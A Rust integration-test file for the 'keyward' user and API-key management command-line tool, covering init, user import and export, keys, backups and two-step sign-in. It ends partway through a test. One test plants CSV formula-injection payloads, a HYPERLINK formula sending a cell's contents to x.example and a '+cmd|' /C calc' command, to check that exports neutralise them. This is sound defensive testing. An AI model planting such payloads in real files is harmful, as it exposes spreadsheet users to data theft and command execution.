//! The `keyward` binary, run as a real process.

use crate::common::{run, Ran};
use std::process::Command;

fn keyward() -> Command {
    scrubbed(Command::new(env!("CARGO_BIN_EXE_keyward")))
}

/// `keyward` without a terminal of its own (setsid): a prompt cannot wait for a person, as in
/// a script run by a scheduler.
fn keyward_detached() -> Command {
    let mut command = Command::new("setsid");
    command.arg("-w").arg(env!("CARGO_BIN_EXE_keyward"));
    scrubbed(command)
}

/// `command` without the caller's Keyward environment.
fn scrubbed(mut command: Command) -> Command {
    command
        .env_remove("KEYWARD_DB")
        .env_remove("KEYWARD_SERVER")
        .env_remove("KEYWARD_TOKEN")
        .env_remove("KEYWARD_PASSWORD")
        .env_remove("KEYWARD_ADMIN_PASSWORD")
        .env_remove("KEYWARD_TOTP_CODE")
        .env_remove("KEYWARD_SECRET_KEY_FILE");
    command
}

/// A directory file with its first SuperAdmin `root`, made by `keyward init`.
fn initialised(tmp: &tempfile::TempDir) -> std::path::PathBuf {
    let db = tmp.path().join("team.db");
    crate::common::keyward_init(db.to_str().unwrap(), None);
    db
}

/// A new PostgreSQL database with its first SuperAdmin `root`, made by `keyward init`; the
/// URL stands where a file's path would.
fn initialised_database() -> std::path::PathBuf {
    let url = crate::common::postgres::server().new_database();
    let created = crate::common::keyward_init(&url, None);
    assert!(created.contains("Created postgres://"), "{created}");
    std::path::PathBuf::from(url)
}

/// Runs `keyward ARGS --db DB` as root (proved by KEYWARD_ADMIN_PASSWORD), with `stdin`.
fn as_root(db: &std::path::Path, args: &[&str], stdin: &str) -> Ran {
    run(
        keyward()
            .args(args)
            .args(["--db", db.to_str().unwrap()])
            .env("KEYWARD_ADMIN_PASSWORD", crate::common::PASSWORD),
        stdin,
    )
}

#[test]
fn init_creates_a_directory_with_its_first_super_admin_once() {
    let tmp = tempfile::TempDir::new().unwrap();
    let db = tmp.path().join("new.db");
    let args = [
        "init",
        "--db",
        db.to_str().unwrap(),
        "--admin-user",
        "root",
        "--admin-email",
        "root@example.com",
    ];
    let ok = keyward()
        .args(args)
        .env("KEYWARD_ADMIN_PASSWORD", crate::common::PASSWORD)
        .output()
        .unwrap();
    assert_eq!(
        ok.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&ok.stderr)
    );
    assert!(String::from_utf8_lossy(&ok.stdout).contains("SuperAdmin root"));
    let again = keyward()
        .args(args)
        .env("KEYWARD_ADMIN_PASSWORD", crate::common::PASSWORD)
        .output()
        .unwrap();
    assert_eq!(again.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&again.stderr).contains("already has users"));
}

#[test]
fn init_reports_each_bad_field_and_writes_no_user() {
    let tmp = tempfile::TempDir::new().unwrap();
    let db = tmp.path().join("new.db");
    let out = keyward()
        .args([
            "init",
            "--db",
            db.to_str().unwrap(),
            "--admin-user",
            "two words",
            "--admin-email",
            "nope",
        ])
        .env("KEYWARD_ADMIN_PASSWORD", "weak")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("userName:"), "{stderr}");
    assert!(stderr.contains("email:"), "{stderr}");
    assert!(
        !stderr.contains("weak"),
        "the password was echoed: {stderr}"
    );
    let conn = rusqlite::Connection::open(&db).unwrap();
    let users: i64 = conn
        .query_row("SELECT COUNT(*) FROM users", [], |r| r.get(0))
        .unwrap();
    assert_eq!(users, 0);
}

#[test]
fn usage_errors_exit_with_two_and_help_is_complete() {
    let out = keyward().args(["init", "--db", "x.db"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let help = keyward().arg("--help").output().unwrap();
    let text = String::from_utf8_lossy(&help.stdout);
    assert!(text.contains("init") && text.contains("--db"), "{text}");
    // Every command group lists its subcommands, each with a line of help.
    let groups: &[(&str, &[&str])] = &[
        (
            "users",
            &[
                "list",
                "show",
                "add",
                "edit",
                "deactivate",
                "activate",
                "delete",
                "reset-password",
                "invite",
                "remove-2fa",
                "import",
                "export",
            ],
        ),
        ("roles", &["list", "show", "add", "edit", "delete"]),
        ("groups", &["list", "show", "add", "edit", "delete"]),
        (
            "keys",
            &[
                "list",
                "create",
                "download",
                "revoke",
                "regenerate",
                "verify",
            ],
        ),
        ("settings", &["show", "set"]),
    ];
    for (group, commands) in groups {
        assert!(text.contains(group), "{group} in --help");
        let help = keyward().args([*group, "--help"]).output().unwrap();
        let text = String::from_utf8_lossy(&help.stdout);
        for command in *commands {
            let line = text
                .lines()
                .find(|l| l.trim_start().starts_with(&format!("{command} ")))
                .unwrap_or_else(|| panic!("{group} {command} missing from:\n{text}"));
            assert!(
                line.trim().len() > command.len() + 5,
                "{group} {command} has no help: {line}"
            );
        }
    }
    for command in ["audit", "backup", "restore", "check", "serve", "secret-key"] {
        let help = keyward().args([command, "--help"]).output().unwrap();
        assert_eq!(help.status.code(), Some(0), "{command} --help");
    }
}

#[test]
fn users_roles_and_groups_are_managed_from_scripts_with_json_and_exit_codes() {
    let tmp = tempfile::TempDir::new().unwrap();
    manage_users_roles_and_groups(&initialised(&tmp));
}

#[test]
fn users_roles_and_groups_are_managed_from_scripts_with_json_and_exit_codes_on_postgresql() {
    manage_users_roles_and_groups(&initialised_database());
}

fn manage_users_roles_and_groups(db: &std::path::Path) {
    let db = db.to_owned();
    let role = as_root(
        &db,
        &[
            "roles",
            "add",
            "--name",
            "Helpdesk",
            "--permission",
            "SIGN_IN",
            "--permission",
            "view_user",
            "--json",
        ],
        "",
    )
    .ok()
    .json();
    assert_eq!(
        role["permissions"],
        serde_json::json!(["VIEW_USER", "SIGN_IN"])
    );

    let added = as_root(
        &db,
        &[
            "users",
            "add",
            "--user-name",
            "helen",
            "--email",
            "helen@example.com",
            "--display-name",
            "Helen Desk",
            "--role",
            "Helpdesk",
            "--password-stdin",
            "--json",
        ],
        &format!("{}\n", crate::common::OTHER_PASSWORD),
    )
    .ok();
    assert!(!added.stdout.contains(crate::common::OTHER_PASSWORD));
    assert_eq!(added.json()["user"]["status"], "ACTIVE");

    // Bad input: exit 1, the field on stderr, nothing created.
    let bad = as_root(
        &db,
        &["users", "add", "--user-name", "x y", "--email", "nope"],
        "",
    );
    assert_eq!(bad.code, Some(1));
    assert!(
        bad.stderr.contains("email:") && bad.stderr.contains("userName:"),
        "{}",
        bad.stderr
    );

    let invited = as_root(
        &db,
        &[
            "users",
            "add",
            "--user-name",
            "ivan",
            "--email",
            "ivan@example.com",
        ],
        "",
    )
    .ok();
    assert_eq!(
        invited.stdout.trim().len(),
        43,
        "the invitation code, and only it, on stdout: {}",
        invited.stdout
    );

    as_root(
        &db,
        &[
            "groups", "add", "--name", "Support", "--member", "helen", "--member", "ivan",
        ],
        "",
    )
    .ok();
    let list = as_root(&db, &["users", "list", "--group", "Support", "--json"], "")
        .ok()
        .json();
    assert_eq!(list["pageInfo"]["totalElements"], 2);
    let names: Vec<&str> = list["users"]
        .as_array()
        .unwrap()
        .iter()
        .map(|u| u["userName"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["helen", "ivan"]);

    let table = as_root(&db, &["users", "list"], "").ok();
    assert!(table.stdout.starts_with("USER NAME"), "{}", table.stdout);
    assert!(table.stdout.contains("Helen Desk"));

    let before = as_root(&db, &["users", "show", "helen", "--json"], "")
        .ok()
        .json()["updateVersion"]
        .as_i64()
        .unwrap();
    let edited = as_root(
        &db,
        &[
            "users",
            "edit",
            "helen",
            "--display-name",
            "Helen D.",
            "--json",
        ],
        "",
    )
    .ok()
    .json();
    assert_eq!(edited["displayName"], "Helen D.");
    assert_eq!(edited["updateVersion"], before + 1);
    let off = as_root(&db, &["users", "deactivate", "helen", "--json"], "")
        .ok()
        .json();
    assert_eq!(off["status"], "INACTIVE");
    as_root(&db, &["users", "activate", "helen"], "").ok();
    let reset = as_root(&db, &["users", "reset-password", "helen"], "").ok();
    assert_eq!(reset.stdout.trim().len(), 43);

    // Acting as another user: Helen (Helpdesk) may list users but not add one.
    let as_helen = |args: &[&str]| {
        run(
            keyward()
                .args(args)
                .args(["--db", db.to_str().unwrap(), "--as", "helen"])
                .env("KEYWARD_PASSWORD", crate::common::OTHER_PASSWORD),
            "",
        )
    };
    as_helen(&["users", "list"]).ok();
    let refused = as_helen(&[
        "users",
        "add",
        "--user-name",
        "zed",
        "--email",
        "zed@example.com",
    ]);
    assert_eq!(refused.code, Some(1));
    assert!(refused.stderr.starts_with("error:"), "{}", refused.stderr);

    as_root(&db, &["users", "delete", "ivan"], "").ok();
    let missing = as_root(&db, &["users", "show", "ivan"], "");
    assert_eq!(missing.code, Some(1));

    let audit = as_root(&db, &["audit", "--action", "user", "--json"], "")
        .ok()
        .json();
    assert!(audit["pageInfo"]["totalElements"].as_u64().unwrap() >= 6);
    assert!(audit["entries"][0]["action"]
        .as_str()
        .unwrap()
        .starts_with("user."));

    let settings = as_root(
        &db,
        &["settings", "set", "--password-min-length", "20", "--json"],
        "",
    )
    .ok()
    .json();
    assert_eq!(settings["passwordMinLength"], 20);

    // The group mapping of sign-in through an identity provider, by group name.
    let staff = as_root(&db, &["groups", "add", "--name", "Staff", "--json"], "")
        .ok()
        .json();
    let mapped = as_root(
        &db,
        &[
            "settings",
            "set",
            "--provider-group",
            "keyward-staff=staff",
            "--json",
        ],
        "",
    )
    .ok()
    .json();
    assert_eq!(
        mapped["providerGroups"],
        serde_json::json!([{"claim": "keyward-staff", "groupId": staff["id"]}])
    );
    let shown = as_root(&db, &["settings"], "").ok();
    assert!(
        shown.stdout.contains("keyward-staff → Staff"),
        "{}",
        shown.stdout
    );
    let unknown = as_root(
        &db,
        &["settings", "set", "--provider-group", "x=nobody"],
        "",
    );
    assert_eq!(unknown.code, Some(1));
    assert!(
        unknown.stderr.contains("There is no group"),
        "{}",
        unknown.stderr
    );
    let cleared = as_root(
        &db,
        &["settings", "set", "--no-provider-groups", "--json"],
        "",
    )
    .ok()
    .json();
    assert_eq!(cleared["providerGroups"], serde_json::json!([]));

    // Without a password to prove who acts, nothing happens.
    let anonymous = run(
        keyward()
            .args(["users", "list", "--db", db.to_str().unwrap()])
            .env("KEYWARD_ADMIN_PASSWORD", "wrong wrong wrong wrong"),
        "",
    );
    assert_eq!(anonymous.code, Some(1));
    let usage = as_root(&db, &["users", "frobnicate"], "");
    assert_eq!(usage.code, Some(2));
}

#[test]
fn a_key_is_printed_once_verified_from_stdin_and_revoked() {
    let tmp = tempfile::TempDir::new().unwrap();
    print_verify_and_revoke_a_key(&initialised(&tmp));
}

#[test]
fn a_key_is_printed_once_verified_from_stdin_and_revoked_on_postgresql() {
    print_verify_and_revoke_a_key(&initialised_database());
}

fn print_verify_and_revoke_a_key(db: &std::path::Path) {
    let db = db.to_owned();
    let created = as_root(
        &db,
        &[
            "keys",
            "create",
            "--name",
            "deploy",
            "--expires-in-days",
            "30",
        ],
        "",
    )
    .ok();
    let key = created.stdout.trim().to_owned();
    assert!(
        key.starts_with("kw_") && key.len() == 49,
        "{}",
        created.stdout
    );
    let listed = as_root(&db, &["keys", "list", "--json"], "").ok();
    assert!(
        !listed.stdout.contains(&key),
        "a listing never shows the secret"
    );
    let id = listed.json()["keys"][0]["id"].as_str().unwrap().to_owned();
    let verified = as_root(&db, &["keys", "verify"], &key).ok();
    assert!(
        verified.stdout.starts_with("VALID root"),
        "{}",
        verified.stdout
    );
    // The use is written as the command ends, not on the verification's path.
    let listed = as_root(&db, &["keys", "list", "--json"], "").ok();
    assert!(
        listed.json()["keys"][0]["lastUsedTime"].is_string(),
        "{}",
        listed.stdout
    );
    as_root(&db, &["keys", "revoke", &id], "").ok();
    let refused = as_root(&db, &["keys", "verify", "--json"], &key);
    assert_eq!(refused.code, Some(1));
    assert_eq!(refused.json()["code"], "REVOKED");
    let audit = as_root(&db, &["audit", "--json"], "").ok();
    assert!(!audit.stdout.contains(&key));
}

/// `directory` served on `bind` by a server in this process, and a session of root's on it.
fn serving(
    directory: keyward::store::SqliteDirectory,
    bind: &str,
) -> (
    keyward::server::RunningServer,
    keyward::core::secret::Secret,
) {
    use keyward::core::directory::Directory;
    let directory = std::sync::Arc::new(directory);
    let server = keyward::server::RunningServer::start(
        directory.clone(),
        bind.parse().unwrap(),
        keyward::server::ServerOptions::default(),
        1,
    )
    .unwrap();
    let token = directory
        .sign_in("root", &crate::common::secret(crate::common::PASSWORD))
        .unwrap()
        .access_token;
    (server, token)
}

#[test]
fn the_same_commands_work_on_a_server_with_keyward_token() {
    let tmp = tempfile::TempDir::new().unwrap();
    let db = initialised(&tmp);
    let directory = keyward::store::SqliteDirectory::open(&db).unwrap();
    let (server, token) = serving(directory, "127.0.0.1:0");
    let on_server = |args: &[&str], token: Option<&str>| {
        let mut command = keyward();
        command.args(args).args(["--server", &server.url()]);
        if let Some(token) = token {
            command.env("KEYWARD_TOKEN", token);
        }
        run(&mut command, "")
    };
    let added = on_server(
        &[
            "users",
            "add",
            "--user-name",
            "sam",
            "--email",
            "sam@example.com",
            "--json",
        ],
        Some(token.expose()),
    )
    .ok()
    .json();
    let link = added["invitation"]["link"].as_str().unwrap();
    assert!(
        link.starts_with(&format!("{}/invite#token=", server.url())),
        "{link}"
    );
    let list = on_server(&["users", "list", "--json"], Some(token.expose()))
        .ok()
        .json();
    assert_eq!(list["pageInfo"]["totalElements"], 2);
    let without = on_server(&["users", "list"], None);
    assert_eq!(without.code, Some(1));
    assert!(
        without.stderr.contains("KEYWARD_TOKEN"),
        "{}",
        without.stderr
    );
    let stale = on_server(&["users", "list"], Some("not-a-session"));
    assert_eq!(stale.code, Some(1));
    drop(server);
}

#[test]
fn users_show_says_whether_the_invitation_was_e_mailed() {
    let smtp = crate::server::mail::Smtp::start();
    let tmp = tempfile::TempDir::new().unwrap();
    let db = initialised(&tmp);
    let port = crate::server::support::free_port();
    let url = format!("http://127.0.0.1:{port}");
    let mailer = keyward::server::mail::MailConfig::parse(
        &format!("smtp+plain://127.0.0.1:{}", smtp.port),
        "keyward@example.com",
        None,
        None,
    )
    .unwrap();
    let directory = keyward::store::SqliteDirectory::open(&db)
        .unwrap()
        .with_mailer(std::sync::Arc::new(mailer), keyward::wire::mail_links(&url))
        .unwrap();
    let (server, token) = serving(directory, &format!("127.0.0.1:{port}"));
    let on_server = |args: &[&str]| {
        let mut command = keyward();
        command
            .args(args)
            .args(["--server", &url])
            .env("KEYWARD_TOKEN", token.expose());
        run(&mut command, "").ok()
    };
    let added = on_server(&[
        "users",
        "add",
        "--user-name",
        "tom",
        "--email",
        "tom@example.com",
    ]);
    assert!(
        added.stdout.contains(&format!("{url}/invite#token=")),
        "{}",
        added.stdout
    );
    assert!(
        added.stderr.contains("e-mailing it to tom@example.com"),
        "{}",
        added.stderr
    );
    smtp.wait_for(1);
    let mut shown = String::new();
    crate::server::support::wait_for(
        "users show to say it was e-mailed",
        std::time::Duration::from_secs(20),
        || {
            shown = on_server(&["users", "show", "tom"]).stdout;
            shown.contains("Invitation e-mailed to tom@example.com at")
        },
    );
    assert!(shown.lines().any(|l| l.starts_with("mail ")), "{shown}");
    let json = on_server(&["users", "show", "tom", "--json"]).json();
    assert_eq!(json["mail"]["status"], "SENT", "{json}");
    drop(server);
}

#[test]
fn backup_copies_a_live_directory_restore_needs_force_and_check_finds_damage() {
    let tmp = tempfile::TempDir::new().unwrap();
    let db = initialised(&tmp);
    as_root(
        &db,
        &[
            "users",
            "add",
            "--user-name",
            "ann",
            "--email",
            "ann@example.com",
        ],
        "",
    )
    .ok();
    // A writer keeps the file busy while the backup runs.
    let writer = std::sync::Arc::new(keyward::store::SqliteDirectory::open(&db).unwrap());
    let busy = {
        let writer = writer.clone();
        std::thread::spawn(move || {
            use keyward::core::directory::Directory;
            let root = keyward::core::model::Credential::Session(
                writer
                    .sign_in("root", &crate::common::secret(crate::common::PASSWORD))
                    .unwrap()
                    .access_token,
            );
            for i in 0..30 {
                writer
                    .create_role(
                        &root,
                        keyward::core::model::NewRole {
                            name: format!("r{i}"),
                            ..Default::default()
                        },
                    )
                    .unwrap();
            }
        })
    };
    let copy = tmp.path().join("copy.db");
    let backed = run(
        keyward().args([
            "backup",
            "--db",
            db.to_str().unwrap(),
            copy.to_str().unwrap(),
        ]),
        "",
    )
    .ok();
    assert!(backed.stdout.contains("Backed up"));
    busy.join().unwrap();
    let again = run(
        keyward().args([
            "backup",
            "--db",
            db.to_str().unwrap(),
            copy.to_str().unwrap(),
        ]),
        "",
    );
    assert_eq!(
        again.code,
        Some(1),
        "an existing backup is never overwritten"
    );
    run(
        keyward().args(["check", "--db", copy.to_str().unwrap()]),
        "",
    )
    .ok();
    let users = as_root(&copy, &["users", "list", "--json"], "").ok().json();
    assert_eq!(users["pageInfo"]["totalElements"], 2);

    as_root(&db, &["users", "delete", "ann"], "").ok();
    let refused = run(
        keyward().args([
            "restore",
            "--db",
            db.to_str().unwrap(),
            copy.to_str().unwrap(),
        ]),
        "",
    );
    assert_eq!(refused.code, Some(1));
    assert!(refused.stderr.contains("--force"), "{}", refused.stderr);
    drop(writer);
    run(
        keyward().args([
            "restore",
            "--force",
            "--db",
            db.to_str().unwrap(),
            copy.to_str().unwrap(),
        ]),
        "",
    )
    .ok();
    as_root(&db, &["users", "show", "ann"], "").ok();

    // Damage: overwrite part of a table's pages.
    let damaged = tmp.path().join("damaged.db");
    std::fs::copy(&copy, &damaged).unwrap();
    let mut bytes = std::fs::read(&damaged).unwrap();
    let len = bytes.len();
    for b in &mut bytes[len / 2..len / 2 + 4096] {
        *b = 0x5a;
    }
    std::fs::write(&damaged, bytes).unwrap();
    let checked = run(
        keyward().args(["check", "--db", damaged.to_str().unwrap()]),
        "",
    );
    assert_eq!(
        checked.code,
        Some(1),
        "{}\n{}",
        checked.stdout,
        checked.stderr
    );
    assert!(
        checked.stderr.contains("damaged") || checked.stderr.contains("error"),
        "{}",
        checked.stderr
    );
}

#[test]
fn users_import_reports_every_bad_line_and_is_all_or_nothing_then_exports_without_secrets() {
    let tmp = tempfile::TempDir::new().unwrap();
    let db = initialised(&tmp);
    as_root(&db, &["groups", "add", "--name", "Support"], "").ok();
    let bad = tmp.path().join("bad.csv");
    std::fs::write(
        &bad,
        "userName,displayName,email,roles,groups\n\
         amy,Amy A,amy@example.com,Viewer,Support\n\
         bob,Bob B,not-an-address,Viewer,\n\
         cy,Cy C,cy@example.com,Nobody,Support\n\
         AMY,Amy Again,amy2@example.com,,\n",
    )
    .unwrap();
    let refused = as_root(&db, &["users", "import", bad.to_str().unwrap()], "");
    assert_eq!(refused.code, Some(1), "{}", refused.stderr);
    let lines: Vec<&str> = refused
        .stderr
        .lines()
        .filter(|l| l.starts_with("line "))
        .collect();
    assert_eq!(lines.len(), 3, "{}", refused.stderr);
    assert!(lines[0].starts_with("line 3: email:"), "{lines:?}");
    assert!(
        lines[1].starts_with("line 4: roles: there is no role \"Nobody\""),
        "{lines:?}"
    );
    assert!(lines[2].starts_with("line 5: userName:"), "{lines:?}");
    let count = |db: &std::path::Path| {
        as_root(db, &["users", "list", "--json"], "").ok().json()["pageInfo"]["totalElements"]
            .as_u64()
            .unwrap()
    };
    assert_eq!(count(&db), 1, "nothing was imported");

    // Many good rows: a dry run changes nothing; the import invites them all.
    let good = tmp.path().join("good.csv");
    let mut csv = String::from("userName,displayName,email,roles,groups\n");
    for i in 0..300 {
        csv.push_str(&format!(
            "user{i},User {i},user{i}@example.com,Viewer;Operator,Support\n"
        ));
    }
    std::fs::write(&good, csv).unwrap();
    let dry = as_root(
        &db,
        &["users", "import", "--dry-run", good.to_str().unwrap()],
        "",
    )
    .ok();
    assert!(dry.stdout.contains("300 users checked"), "{}", dry.stdout);
    assert_eq!(count(&db), 1);
    let invites = tmp.path().join("invites.csv");
    let args = [
        "users",
        "import",
        good.to_str().unwrap(),
        "--invites-out",
        invites.to_str().unwrap(),
    ];
    let done = as_root(&db, &args, "").ok();
    assert!(
        done.stdout.contains("Imported 300 users (300 invited)"),
        "{}",
        done.stdout
    );
    assert_eq!(count(&db), 301);
    let written = std::fs::read_to_string(&invites).unwrap();
    let mut rows = written.lines();
    assert_eq!(
        rows.next(),
        Some("\u{FEFF}userName,email,invitation,expiresTime")
    );
    let first: Vec<&str> = rows.next().unwrap().split(',').collect();
    assert_eq!(first[0], "user0");
    assert_eq!(first[2].len(), 43, "the one-time code of a local file");
    assert_eq!(written.lines().count(), 301);
    let again = as_root(&db, &args, "");
    assert_eq!(
        again.code,
        Some(1),
        "an existing invitations file is never overwritten"
    );
    let user = as_root(&db, &["users", "show", "user7", "--json"], "")
        .ok()
        .json();
    assert_eq!(user["status"], "INVITED");
    assert_eq!(user["roles"].as_array().unwrap().len(), 2);
    assert_eq!(user["groups"].as_array().unwrap().len(), 1);

    // The export: every user, names for roles and groups, nothing secret.
    let exported = as_root(&db, &["users", "export"], "").ok();
    assert!(exported
        .stdout
        .starts_with("\u{FEFF}userName,displayName,email,status,type,roles,groups\r\n"));
    assert!(
        exported
            .stdout
            .contains("user7,User 7,user7@example.com,INVITED,NATIVE,Operator;Viewer,Support"),
        "{}",
        &exported.stdout[..300]
    );
    assert!(
        !exported.stdout.contains("$argon2") && !exported.stdout.contains(&first[2].to_string())
    );
    let json = tmp.path().join("users.json");
    as_root(&db, &["users", "export", json.to_str().unwrap()], "").ok();
    let text = std::fs::read_to_string(&json).unwrap();
    assert!(!text.contains("$argon2") && !text.contains("password"));

    // The JSON export imports into another directory (root already exists there).
    let other = tempfile::TempDir::new().unwrap();
    let other_db = initialised(&other);
    as_root(&other_db, &["groups", "add", "--name", "Support"], "").ok();
    let reimport = as_root(&other_db, &["users", "import", json.to_str().unwrap()], "");
    assert_eq!(
        reimport.code,
        Some(1),
        "root is in both: refused, with its line"
    );
    assert!(reimport.stderr.contains("userName:"), "{}", reimport.stderr);
}

/// Cells of an exported CSV file (after its byte-order mark) that a spreadsheet would run.
fn formulas_in(csv: &str) -> Vec<String> {
    let mut reader = ::csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.trim_start_matches('\u{FEFF}').as_bytes());
    reader
        .records()
        .flat_map(|record| {
            record
                .unwrap()
                .iter()
                .filter(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r']))
                .map(str::to_owned)
                .collect::<Vec<_>>()
        })
        .collect()
}

#[test]
fn files_excel_writes_are_imported_and_exports_open_in_excel_without_running_anything() {
    let tmp = tempfile::TempDir::new().unwrap();
    let db = initialised(&tmp);
    as_root(&db, &["groups", "add", "--name", "Support"], "").ok();
    let file = |name: &str, bytes: &[u8]| {
        let path = tmp.path().join(name);
        std::fs::write(&path, bytes).unwrap();
        path.to_str().unwrap().to_owned()
    };
    let import = |path: &str| as_root(&db, &["users", "import", path], "");
    let display_name = |db: &std::path::Path, user: &str| {
        as_root(db, &["users", "show", user, "--json"], "")
            .ok()
            .json()["displayName"]
            .as_str()
            .unwrap()
            .to_owned()
    };

    // "CSV UTF-8 (Comma delimited)": a byte-order mark, CRLF, a roles cell with a line break
    // (Alt+Enter), and a notes column of its own with quotes, a comma and a line break.
    let utf8 = file(
        "utf8.csv",
        b"\xEF\xBB\xBFuserName,displayName,email,roles,Notes\r\n\
          anna,Anna M\xC3\xBCller,anna@example.com,\"Viewer\nOperator\",\"Met on site, said \"\"hi\"\"\nCall back\"\r\n",
    );
    let done = import(&utf8).ok();
    assert!(done.stdout.contains("Imported 1 users"), "{}", done.stdout);
    assert!(!done.stderr.contains("note:"), "{}", done.stderr);
    assert_eq!(display_name(&db, "anna"), "Anna Müller");
    let anna = as_root(&db, &["users", "show", "anna", "--json"], "")
        .ok()
        .json();
    assert_eq!(anna["roles"].as_array().unwrap().len(), 2, "{anna}");

    // "CSV (Comma delimited)" in a German Excel: Windows-1252, ';', a quoted ';' and a '€'.
    let ansi = file(
        "ansi.csv",
        b"userName;displayName;email;groups\r\n\
          carl;Carl M\xFCller;carl@example.com;Support\r\n\
          dora;\"Dora; \x80 team\";dora@example.com;\r\n\
          ;;;\r\n",
    );
    let done = import(&ansi).ok();
    assert!(done.stdout.contains("Imported 2 users"), "{}", done.stdout);
    assert!(
        done.stderr
            .contains("note: ansi.csv is not UTF-8: it was read as Windows-1252"),
        "{}",
        done.stderr
    );
    assert_eq!(display_name(&db, "carl"), "Carl Müller");
    assert_eq!(display_name(&db, "dora"), "Dora; € team");

    // Neither: UTF-8 in one line and not in another. Refused on the line, with what to do.
    let mixed = file(
        "mixed.csv",
        b"userName,displayName,email\r\nemil,Emil \xC3\x96z,emil@example.com\r\nfritz,Fritz M\xFCller,fritz@example.com\r\n",
    );
    let refused = import(&mixed);
    assert_eq!(refused.code, Some(1), "{}", refused.stderr);
    assert!(
        refused.stderr.contains("line 3: this line is not UTF-8")
            && refused
                .stderr
                .contains("\"CSV UTF-8 (Comma delimited) (*.csv)\""),
        "{}",
        refused.stderr
    );
    assert_eq!(
        as_root(&db, &["users", "show", "emil"], "").code,
        Some(1),
        "nothing was imported"
    );

    // Formulas planted three ways: an import file, the command line on the file, a server.
    let planted = file(
        "planted.csv",
        b"userName,displayName,email\n\
          eve,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",eve@example.com\n\
          @mal,+cmd|' /C calc'!A0,+mal@example.com\n",
    );
    import(&planted).ok();
    as_root(
        &db,
        &["users", "edit", "carl", "--display-name='=SUM(1)"],
        "",
    )
    .ok();
    let directory = keyward::store::SqliteDirectory::open(&db).unwrap();
    let (server, token) = serving(directory, "127.0.0.1:0");
    let on_server = |args: &[&str]| {
        let mut command = keyward();
        command
            .args(args)
            .args(["--server", &server.url()])
            .env("KEYWARD_TOKEN", token.expose());
        run(&mut command, "").ok()
    };
    on_server(&["users", "edit", "dora", "--display-name=-2+3"]);
    let wanted = [
        ("eve", "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"),
        ("@mal", "+cmd|' /C calc'!A0"),
        ("carl", "'=SUM(1)"),
        ("dora", "-2+3"),
        ("anna", "Anna Müller"),
    ];

    // Every way out: the command line on the file (to a file and to stdout), and on a server.
    let exports = [
        {
            let out = tmp.path().join("users.csv");
            as_root(&db, &["users", "export", out.to_str().unwrap()], "").ok();
            String::from_utf8(std::fs::read(&out).unwrap()).unwrap()
        },
        as_root(&db, &["users", "export"], "").ok().stdout,
        on_server(&["users", "export", "--format", "csv"]).stdout,
    ];
    for csv in &exports {
        assert!(csv.starts_with("\u{FEFF}userName,"), "{csv}");
        assert_eq!(
            csv.matches("\r\n").count(),
            csv.matches('\n').count(),
            "CRLF only: {csv}"
        );
        assert_eq!(formulas_in(csv), Vec::<String>::new(), "{csv}");
        for cell in [
            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"",
            "'@mal,'+cmd|' /C calc'!A0,'+mal@example.com",
            "carl,''=SUM(1),",
            "dora,'-2+3,",
            "anna,Anna Müller,",
        ] {
            assert!(csv.contains(cell), "{cell} in {csv}");
        }
    }
    assert_eq!(exports[0], exports[2], "the same file from a server");
    drop(server);

    // Imported elsewhere, the export gives back every value as it was.
    let other = tempfile::TempDir::new().unwrap();
    let other_db = initialised(&other);
    as_root(&other_db, &["groups", "add", "--name", "Support"], "").ok();
    let without_root: String = exports[0]
        .split_inclusive("\r\n")
        .filter(|line| !line.starts_with("root,"))
        .collect();
    let back = file("back.csv", without_root.as_bytes());
    as_root(&other_db, &["users", "import", &back], "").ok();
    for (user, name) in wanted {
        assert_eq!(display_name(&other_db, user), name);
    }
    let mal = as_root(&other_db, &["users", "show", "@mal", "--json"], "")
        .ok()
        .json();
    assert_eq!(mal["email"], "+mal@example.com");
}

#[test]
fn two_step_sign_in_asks_for_the_code_on_a_file_and_a_server_and_an_admin_removes_it() {
    use keyward::core::directory::Directory;
    let tmp = tempfile::TempDir::new().unwrap();
    let db = initialised(&tmp);
    as_root(
        &db,
        &[
            "users",
            "add",
            "--user-name",
            "ann",
            "--email",
            "ann@example.com",
            "--role",
            "Viewer",
            "--password-stdin",
        ],
        &format!("{}\n", crate::common::OTHER_PASSWORD),
    )
    .ok();
    let directory = keyward::store::SqliteDirectory::open(&db).unwrap();
    let dir: &dyn Directory = &directory;
    let session = crate::common::secret(crate::common::OTHER_PASSWORD);
    let ann_session = keyward::core::model::Credential::Session(
        dir.sign_in("ann", &session).unwrap().access_token,
    );
    let setup = dir
        .enroll_second_factor(keyward::core::model::Enrolling::Signed(&ann_session))
        .unwrap();
    let code = crate::common::totp_code(setup.secret.expose(), chrono::Utc::now());
    let recovery = dir
        .confirm_second_factor(keyward::core::model::Enrolling::Signed(&ann_session), &code)
        .unwrap()
        .recovery_codes;
    let as_ann = |target: &[&str], code: Option<&str>| {
        let mut command = keyward_detached();
        command
            .args(["users", "list", "--as", "ann"])
            .args(target)
            .env("KEYWARD_PASSWORD", crate::common::OTHER_PASSWORD);
        if let Some(code) = code {
            command.env("KEYWARD_TOTP_CODE", code);
        }
        run(&mut command, "")
    };
    let on_file = ["--db", db.to_str().unwrap()];
    // A script without a code is told where to put it; a wrong code is refused.
    let asked = as_ann(&on_file, None);
    assert_eq!(asked.code, Some(1), "{}", asked.stderr);
    assert!(
        asked.stderr.contains("KEYWARD_TOTP_CODE"),
        "{}",
        asked.stderr
    );
    let wrong = as_ann(&on_file, Some("000000"));
    assert_eq!(wrong.code, Some(1));
    assert!(
        wrong.stderr.contains("This code is not right"),
        "{}",
        wrong.stderr
    );
    as_ann(&on_file, Some(recovery[0].expose())).ok();
    // A key of its own for a directory: `secret-key` writes one, never over another. Named by
    // KEYWARD_SECRET_KEY_FILE, it is the one used, and it is not the key of this file.
    let other_key = tmp.path().join("other.key");
    let made = run(keyward().arg("secret-key").arg(&other_key), "").ok();
    assert!(
        made.stdout.contains("KEYWARD_SECRET_KEY_FILE"),
        "{}",
        made.stdout
    );
